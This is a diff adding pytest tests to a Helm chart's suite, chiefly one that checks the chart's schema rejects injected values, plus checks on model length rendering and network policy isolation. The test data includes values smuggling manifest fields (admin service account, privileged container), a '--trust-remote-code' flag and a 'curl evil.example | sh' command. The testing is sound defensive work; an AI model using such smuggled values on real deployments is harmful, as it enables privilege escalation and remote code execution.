@@ -264,6 +264,50 @@ def test_what_cannot_work_is_refused_with_what_to_do(settings: tuple[str, ...], 
     assert told in done.stderr
 
 
+@pytest.mark.parametrize(
+    "setting",
+    [
+        'priorityClassName="x\\nserviceAccountName: admin"',
+        'ingress.host="a.example\\n      http: {paths: []}"',
+        'image.repository="a\\n          securityContext: {privileged: true}"',
+        'secrets.existingSecret="a}, other: {b"',
+        'qdrant.storage.storageClass="a\\n        volumeName: stolen"',
+        'monitoring.prometheusUrl="http://a\\n        query: 1"',
+        'vllm.revision="x; curl evil.example | sh"',
+        'vllm.revision="--trust-remote-code"',
+        'networkPolicy.stores=[{"cidr": "10.0.0.0/8}}, {ipBlock: {cidr: 0.0.0.0/0", "ports": [1]}]',
+    ],
+)
+def test_a_value_is_a_value_and_no_part_of_a_manifest_or_a_command(setting: str) -> None:
+    done = run(helm(), "template", "live", CHART, "--set", "vllm.enabled=true,ingress.enabled=true",
+               "--set-json", setting)  # fmt: skip
+    assert done.returncode != 0, done.stdout
+    assert "does not match pattern" in done.stderr
+
+
+def test_a_long_context_is_a_number_to_the_model_server() -> None:
+    docs = _rendered("gpu-values.yaml", "--set-json", "vllm.maxModelLength=1048576")
+    (vllm,) = (
+        doc
+        for doc in docs
+        if doc["kind"] == "Deployment" and doc["metadata"]["name"].endswith("vllm")
+    )
+    assert "--max-model-len 1048576 " in _containers(vllm)[0]["args"][0]
+
+
+def test_the_widget_has_no_way_to_the_index() -> None:
+    (policy,) = (doc for doc in _of("default-values.yaml", "NetworkPolicy")
+                 if doc["metadata"]["name"].endswith("-qdrant"))  # fmt: skip
+    components = {
+        peer["podSelector"]["matchLabels"].get("app.kubernetes.io/component")
+        for rule in policy["spec"]["ingress"]
+        for peer in rule["from"]
+        if "podSelector" in peer
+    }
+    assert "answer" in components
+    assert "widget" not in components
+
+
 def test_the_chart_carries_every_rule_and_dashboard() -> None:
     switches = (
         "--set",
